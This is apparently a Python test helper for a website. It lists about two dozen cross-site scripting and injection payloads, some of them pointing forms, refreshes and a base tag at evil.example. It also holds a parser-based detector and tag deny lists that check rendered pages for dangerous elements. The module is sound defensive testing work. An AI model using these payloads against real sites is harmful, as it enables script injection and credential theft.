"""Strings that have attacked other sites, and whether a page lets one of them do anything."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

# Kept as they were tried, here and elsewhere (S-001, S-002, S-003, S-015, S-019).
ATTACKS = (
    "<script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</title></script><img src=x onerror=window.__xss=1>",
    '"><svg onload=window.__xss=1>',
    "' onfocus=window.__xss=1 autofocus x='",
    '" onmouseover="window.__xss=1',
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__xss=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
    "<a href='javascript:window.__xss=1'>x</a>",
    "[x](javascript:window.__xss=1)",
    "[x](java\tscript:window.__xss=1)",
    "[x](&#106;avascript:window.__xss=1)",
    "<javascript:window.__xss=1>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "![x](https://evil.example/pixel.png)",
    'https://a.example/"onmouseover="window.__xss=1',
    "https://a.example/'onmouseover='window.__xss=1",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=password>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "{{ 7*7 }}{% debug %}${7*7}{0.__class__}%s",
    "<!--<script>-->",
    "]]><script>window.__xss=1</script>",
)

# What no page of the site has, wherever its words come from.
_NEVER = {"applet", "base", "embed", "frame", "frameset", "iframe", "math", "noembed", "object", "style", "svg", "xmp"}
_ADDRESSES = ("href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href", "ping", "background")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


def read(html: bytes | str) -> _Reader:
    """The elements of a page with their attributes, and its text, as a browser would take them."""
    reader = _Reader()
    reader.feed(html.decode() if isinstance(html, bytes) else html)
    reader.close()
    return reader


def skeleton(html: bytes | str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements and the names of their attributes: equal for pages that differ in their words alone."""
    return [(tag, tuple(attributes)) for tag, attributes in read(html).elements]


def dangers(html: bytes | str) -> list[str]:
    """Everything on a page that runs, loads or leads where none of our templates would."""
    found = []
    for tag, attributes in read(html).elements:
        if tag in _NEVER or (tag == "meta" and "http-equiv" in attributes):
            found.append(tag)
        if (
            tag == "script"
            and attributes.get("type") not in ("application/json", "application/ld+json")
            and "/static/" not in attributes.get("src", "")
        ):
            found.append("script")
        found += [f"{tag} {name}" for name in attributes if name.startswith("on") or name in ("style", "srcdoc")]
        for name in _ADDRESSES:
            address = attributes.get(name)
            if address is not None and not _is_harmless(tag, address):
                found.append(f"{tag} {name}={address}")
    return found


def _is_harmless(tag: str, address: str) -> bool:
    parts = urlsplit(address.strip())
    if parts.scheme in ("", "http", "https") and not parts.netloc:
        return parts.scheme == "" and not address.startswith(("//", "/\\", "\\"))
    if tag != "a":  # Nothing is loaded from elsewhere, and no form leads there.
        return parts.netloc in ("testserver", "localhost")
    return parts.scheme in ("http", "https", "mailto")
